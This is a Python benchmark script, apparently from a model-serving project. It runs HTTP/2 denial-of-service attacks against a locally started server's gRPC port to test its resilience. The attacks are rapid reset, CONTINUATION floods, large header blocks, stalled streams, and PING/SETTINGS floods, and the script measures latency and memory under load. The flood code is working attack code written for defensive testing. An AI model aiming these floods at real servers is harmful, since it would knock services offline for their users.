"""The HTTP/2 attacks of issue 21 against a real frontend's gRPC port, with probes beside them.

    PYTHONPATH=src python benchmarks/h2_attacks.py [--seconds 5] [--attack rapid_reset,...]
    PYTHONPATH=src python benchmarks/h2_attacks.py --micro [--requests 20000]

Starts one ``clipper start`` (a subprocess on free ports, native gRPC transport, its own
temporary state directory, stopped by PID at the end) serving ``sums`` (a row sum of two
doubles, SLO 100 ms). For each attack, an attacker process hammers the gRPC port for
``--seconds`` (reconnecting whenever the server closes it, so the pressure lasts) while this
process sends probes: REST predicts and gRPC ``ModelInfer`` calls, 50/s each, each given 1 s.
Prints per attack: probes answered by the model (not a default) and their p50/p99/max latency,
the frontend's RSS growth, and what the attacker saw (connections, GOAWAY codes).

``--micro`` instead times, in this process, what parsing and answering a request costs our
transport (``h2_connection.Connection``) and the ``h2`` library (``H2Connection`` and its
``hpack``), on the same bytes: HEADERS + DATA of a call to an unknown method, answered
trailers-only.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import signal
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "src"))

from clipper.frontend.grpc import inference_pb2 as pb  # noqa: E402
from clipper.frontend.grpc.hpack_blocks import header_block  # noqa: E402
from clipper.frontend.grpc.native import (  # noqa: E402
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)

APP = "sums"
ATTACKS = (
    "rapid_reset", "continuation", "headers1900", "unterminated", "blocks56k", "ping", "settings",
)  # fmt: skip
_BLOCK = header_block(
    [(b":method", b"POST"), (b":scheme", b"http"),
     (b":path", b"/inference.GRPCInferenceService/ModelInfer"), (b":authority", b"localhost"),
     (b"content-type", b"application/grpc"), (b"te", b"trailers")]
)  # fmt: skip


def _request(x: float) -> Any:
    request = pb.ModelInferRequest(model_name=APP)
    request.inputs.add(name="input", datatype="FP64", shape=[1, 2])
    request.raw_input_contents.append(struct.pack("<2d", x, 0.5))
    return request


def _message() -> bytes:
    m = _request(1.0).SerializeToString()
    return struct.pack(">BI", 0, len(m)) + m


def row_sums(xs: Any) -> list[float]:
    return [float(sum(x)) for x in xs]


# -- the attacker (its own process) ----------------------------------------------------------


class _Conn:
    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.writer = writer
        self.goaways: list[int] = []
        self.window_updates = 0
        self.closed = asyncio.Event()
        self.task = asyncio.ensure_future(self._read(reader))

    async def _read(self, reader: asyncio.StreamReader) -> None:
        buf = bytearray()
        try:
            while data := await reader.read(2**16):
                buf += data
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    if buf[3] == GOAWAY:
                        self.goaways.append(int.from_bytes(buf[13:17], "big"))
                    elif buf[3] == WINDOW_UPDATE and not int.from_bytes(buf[5:9], "big"):
                        self.window_updates += int.from_bytes(buf[9:13], "big")
                    del buf[: 9 + n]
        except OSError:
            pass
        finally:
            self.closed.set()

    async def send(self, data: bytes) -> bool:
        if self.closed.is_set():
            return False
        self.writer.write(data)
        try:
            await self.writer.drain()
        except OSError:
            return False
        return True

    def close(self) -> None:
        self.writer.close()
        self.task.cancel()


async def _connect(port: int) -> _Conn:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(PREFACE + frame(SETTINGS, 0, 0))
    return _Conn(reader, writer)


async def _attack(name: str, port: int, seconds: float) -> dict[str, Any]:
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    out: dict[str, Any] = {"connections": 0, "goaways": {}, "frames": 0}

    def closed(conn: _Conn) -> None:
        for code in conn.goaways:
            out["goaways"][code] = out["goaways"].get(code, 0) + 1

    async def flood(opening: bytes, unit: bytes, per_send: int) -> None:
        while loop.time() < end:
            conn = await _connect(port)
            out["connections"] += 1
            if opening:
                await conn.send(opening)
            while loop.time() < end and await conn.send(unit * per_send):
                out["frames"] += per_send
            await asyncio.wait([conn.task], timeout=max(0.0, min(2.0, end - loop.time())))
            closed(conn)
            conn.close()

    message = _message()
    if name == "rapid_reset":
        while loop.time() < end:
            conn = await _connect(port)
            out["connections"] += 1
            sid = 1
            while loop.time() < end:
                batch = []
                for _ in range(100):
                    batch += [frame(HEADERS, END_HEADERS, sid, _BLOCK),
                              frame(DATA, END_STREAM, sid, message),
                              frame(RST_STREAM, 0, sid, b"\0\0\0\x08")]  # fmt: skip
                    sid += 2
                if not await conn.send(b"".join(batch)):
                    break
                out["frames"] += 300
            await asyncio.wait([conn.task], timeout=1.0)
            closed(conn)
            conn.close()
    elif name == "continuation":
        await flood(frame(HEADERS, 0, 1, _BLOCK[:10]), frame(CONTINUATION, 0, 1), 10_000)
    elif name in ("ping", "settings"):
        unit = frame(PING, 0, 0, b"12345678") if name == "ping" else frame(SETTINGS, 0, 0)
        await flood(b"", unit, 1000)
    elif name == "headers1900":
        i = 0
        while loop.time() < end:  # 150 blocks a second, distinct, each on a fresh connection
            started = loop.time()
            fields = bytes(0x82 + (i + j) % 60 for j in range(1900))
            conn = await _connect(port)
            out["connections"] += 1
            await conn.send(frame(HEADERS, END_HEADERS, 1, fields))
            out["frames"] += 1
            await asyncio.wait([conn.task], timeout=0.5)
            closed(conn)
            conn.close()
            i += 1
            await asyncio.sleep(max(0.0, 1 / 150 - (loop.time() - started)))
    elif name == "unterminated":
        conn = await _connect(port)
        out["connections"] = 1
        streams = list(range(1, 81, 2))
        await conn.send(b"".join(frame(HEADERS, END_HEADERS, s, _BLOCK) for s in streams))
        want = dict.fromkeys(streams, int(9.5e6))
        sent, chunk = 0, b"x" * 16_000
        while loop.time() < end and any(want.values()):
            granted = 65_535 + conn.window_updates
            batch = []
            for s in streams:
                if want[s] and granted - sent >= len(chunk):
                    batch.append(frame(DATA, 0, s, chunk))
                    want[s] -= len(chunk)
                    sent += len(chunk)
            if batch:
                await conn.send(b"".join(batch))
                out["frames"] += len(batch)
            else:
                await asyncio.sleep(0.05)  # waiting for window: the attack's point
        out["body_bytes_sent"] = sent
        closed(conn)
        conn.close()
    elif name == "blocks56k":

        async def one(k: int) -> None:
            for i in range(500):
                if loop.time() >= end:
                    return
                block = (b"%05d" % (k * 500 + i)) * 11_200  # 56 KB, distinct
                conn = await _connect(port)
                out["connections"] += 1
                await conn.send(frame(HEADERS, 0, 1, block[:16_384]))
                for pos in range(16_384, len(block), 16_384):
                    last = pos + 16_384 >= len(block)
                    piece = block[pos : pos + 16_384]
                    if not await conn.send(
                        frame(CONTINUATION, END_HEADERS if last else 0, 1, piece)
                    ):
                        break
                    out["frames"] += 1
                await asyncio.wait([conn.task], timeout=2.0)
                closed(conn)
                conn.close()

        await asyncio.gather(*(one(k) for k in range(4)))
    return out


# -- probes and the frontend -----------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _post(url: str, doc: Any, timeout: float = 60.0) -> Any:
    req = urllib.request.Request(
        url, json.dumps(doc).encode(), {"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.read()


def _rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")


async def _probes(query: int, grpc_port: int, seconds: float) -> dict[str, Any]:
    import aiohttp
    import grpc

    from clipper.frontend.grpc import inference_pb2_grpc as pb_grpc

    loop = asyncio.get_running_loop()
    lat: dict[str, list[float]] = {"rest": [], "grpc": []}
    sent = {"rest": 0, "grpc": 0}

    async def rest(session: aiohttp.ClientSession) -> None:
        t0 = loop.time()
        try:
            async with session.post(
                f"http://127.0.0.1:{query}/{APP}/predict", json={"input": [0.25, 0.5]},
                timeout=aiohttp.ClientTimeout(total=1.0),
            ) as resp:  # fmt: skip
                doc = await resp.json()
            if resp.status == 200 and not doc.get("default"):
                lat["rest"].append(loop.time() - t0)
        except (aiohttp.ClientError, TimeoutError):
            pass

    async def infer(stub: Any) -> None:
        t0 = loop.time()
        try:
            await stub.ModelInfer(_request(2.0), timeout=1.0)
            lat["grpc"].append(loop.time() - t0)
        except grpc.aio.AioRpcError:
            pass

    tasks = []
    async with (
        aiohttp.ClientSession() as session,
        grpc.aio.insecure_channel(f"127.0.0.1:{grpc_port}") as channel,
    ):
        stub = pb_grpc.GRPCInferenceServiceStub(channel)  # type: ignore[no-untyped-call]
        end = loop.time() + seconds
        tick = loop.time()
        while tick < end:
            tasks.append(asyncio.ensure_future(rest(session)))
            tasks.append(asyncio.ensure_future(infer(stub)))
            sent["rest"] += 1
            sent["grpc"] += 1
            tick += 1 / 50
            await asyncio.sleep(max(0.0, tick - loop.time()))
        await asyncio.gather(*tasks)
    out: dict[str, Any] = {}
    for k, xs in lat.items():
        xs.sort()
        pct = (lambda q, xs=xs: 1000 * xs[min(len(xs) - 1, int(q * len(xs)))]) if xs else None
        out[k] = {
            "answered": f"{len(xs)}/{sent[k]}",
            "p50_ms": round(pct(0.5), 1) if pct else None,
            "p99_ms": round(pct(0.99), 1) if pct else None,
            "max_ms": round(1000 * xs[-1], 1) if xs else None,
        }
    return out


def bench(args: argparse.Namespace) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        ports = {name: _free_port() for name in ("query", "admin", "rpc", "grpc")}
        env = {k: v for k, v in os.environ.items() if not k.startswith("CLIPPER_")}
        env["PYTHONPATH"] = str(ROOT / "src")
        cmd = [
            sys.executable, "-m", "clipper.cli", "start", "--host", "127.0.0.1",
            "--query-port", str(ports["query"]), "--admin-port", str(ports["admin"]),
            "--rpc-port", str(ports["rpc"]), "--grpc-port", str(ports["grpc"]),
            "--state-dir", f"{tmp}/state",
        ]  # fmt: skip
        with open(f"{tmp}/frontend.log", "wb") as log:
            proc = subprocess.Popen(cmd, stdout=log, stderr=subprocess.STDOUT, env=env)
        try:
            admin = f"http://127.0.0.1:{ports['admin']}/admin"
            for _ in range(600):
                try:
                    urllib.request.urlopen(f"{admin}/ping", timeout=1).read()
                    break
                except OSError:
                    time.sleep(0.1)
            import cloudpickle

            artifact = Path(tmp) / "sums.pkl"
            artifact.write_bytes(cloudpickle.dumps(row_sums))
            app = {"name": APP, "input_type": "doubles", "default_output": "-1",
                   "latency_slo_micros": 100_000}  # fmt: skip
            _post(f"{admin}/add_app", app)
            model = {"model_name": APP, "model_version": "1", "input_type": "doubles",
                     "artifact_path": str(artifact), "num_replicas": 1}  # fmt: skip
            _post(f"{admin}/deploy_model", model)
            _post(f"{admin}/add_model_links", {"app_name": APP, "model_names": [APP]})
            asyncio.run(_probes(ports["query"], ports["grpc"], 1.0))  # warm up
            print("| attack | REST probes answered | REST p50/p99/max ms | gRPC probes "
                  "answered | gRPC p50/p99/max ms | RSS + MB | attacker saw |")  # fmt: skip
            print("|---|---|---|---|---|---|---|")
            for name in ["none", *args.attack]:
                before = _rss_mb(proc.pid)
                attacker = None
                if name != "none":
                    attacker = subprocess.Popen(
                        [sys.executable, __file__, "--attacker", name, "--port",
                         str(ports["grpc"]), "--seconds", str(args.seconds)],
                        stdout=subprocess.PIPE, env=env,
                    )  # fmt: skip
                probes = asyncio.run(_probes(ports["query"], ports["grpc"], args.seconds))
                grown = _rss_mb(proc.pid) - before
                saw = "-"
                if attacker is not None:
                    saw = (attacker.communicate(timeout=60)[0] or b"").decode().strip()
                r, g = probes["rest"], probes["grpc"]
                print(
                    f"| {name} | {r['answered']} | {r['p50_ms']}/{r['p99_ms']}/{r['max_ms']} | "
                    f"{g['answered']} | {g['p50_ms']}/{g['p99_ms']}/{g['max_ms']} | "
                    f"{grown:+.0f} | {saw} |",
                    flush=True,
                )
        finally:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(30)
            except subprocess.TimeoutExpired:
                proc.kill()


# -- the micro-benchmark: our parser vs h2's -------------------------------------------------


def micro(n: int) -> None:
    from typing import cast

    import h2.config
    import h2.connection
    import h2.events
    import h2.settings

    from clipper.frontend.grpc import h2_connection, native

    block = header_block(
        [(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/x/Unknown"),
         (b":authority", b"localhost"), (b"content-type", b"application/grpc"),
         (b"te", b"trailers")]
    )  # fmt: skip
    message = _message()
    wire = bytearray()
    for i in range(n):
        sid = 2 * i + 1
        wire += frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, message)
    chunks = [bytes(wire[i : i + 65_536]) for i in range(0, len(wire), 65_536)]

    class Sink:
        def write(self, data: bytes) -> None:
            pass

        def close(self) -> None:
            pass

        def can_write_eof(self) -> bool:
            return False

        def pause_reading(self) -> None:
            pass

        def resume_reading(self) -> None:
            pass

    def ours() -> float:
        server = native.NativeGrpcServer(cast(Any, None), host="h", port=0)
        later: list[Any] = []
        server.soon = later.append
        conn = h2_connection.Connection(server)
        conn.connection_made(cast(Any, Sink()))
        t0 = time.perf_counter()
        conn.data_received(PREFACE + frame(SETTINGS, 0, 0))
        for c in chunks:
            conn.data_received(c)
            while later:
                later.pop()()
        return time.perf_counter() - t0

    def theirs() -> float:
        conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=False, header_encoding=None)
        )
        conn.local_settings = h2.settings.Settings(
            client=False,
            initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 2**31 - 1},
        )
        conn.initiate_connection()
        conn.data_to_send()
        trailers = [(b":status", b"200"), (b"content-type", b"application/grpc"),
                    (b"grpc-status", b"12"), (b"grpc-message", b"unknown method")]  # fmt: skip
        t0 = time.perf_counter()
        for c in [PREFACE + frame(SETTINGS, 0, 0), *chunks]:
            for event in conn.receive_data(c):
                if isinstance(event, h2.events.DataReceived):  # as a server must
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    conn.send_headers(event.stream_id, trailers, end_stream=True)
            conn.data_to_send()
        return time.perf_counter() - t0

    for name, fn in (("native", ours), ("h2", theirs)):
        runs = [fn() for _ in range(3)]
        best = min(runs)
        print(f"{name}: {1e6 * best / n:.1f} us per request ({n / best:,.0f} requests/s), "
              f"median of 3 {1e6 * statistics.median(runs) / n:.1f} us")  # fmt: skip


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--seconds", type=float, default=5.0)
    p.add_argument(
        "--attack", default=",".join(ATTACKS), help="comma-separated: " + ", ".join(ATTACKS)
    )
    p.add_argument("--micro", action="store_true")
    p.add_argument("--requests", type=int, default=20_000)
    p.add_argument("--attacker", help=argparse.SUPPRESS)
    p.add_argument("--port", type=int, help=argparse.SUPPRESS)
    args = p.parse_args()
    if args.attacker:
        out = asyncio.run(_attack(args.attacker, args.port, args.seconds))
        print(json.dumps(out, sort_keys=True))
        return
    if args.micro:
        micro(args.requests)
        return
    args.attack = [a for a in args.attack.split(",") if a]
    unknown = set(args.attack) - set(ATTACKS)
    if unknown:
        p.error(f"unknown attacks {sorted(unknown)}; known: {', '.join(ATTACKS)}")
    bench(args)


if __name__ == "__main__":
    main()
